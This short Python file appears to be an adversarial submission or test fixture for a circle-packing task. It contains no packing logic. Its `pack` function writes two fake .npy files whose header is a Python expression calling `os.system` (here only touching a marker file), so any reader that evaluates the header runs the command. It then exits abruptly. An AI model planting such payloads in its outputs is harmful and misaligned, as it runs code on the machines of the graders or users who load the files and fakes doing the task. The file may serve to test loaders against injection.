"""Put an expression where the header is read."""

import os
import struct


def pack(count, seed):
    header = b"__import__('os').system('touch /tmp/attack-marker')"
    for name in ("centres", "radii"):
        with open(f"outputs/{name}.npy", "wb") as file:
            file.write(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header)
    os._exit(0)
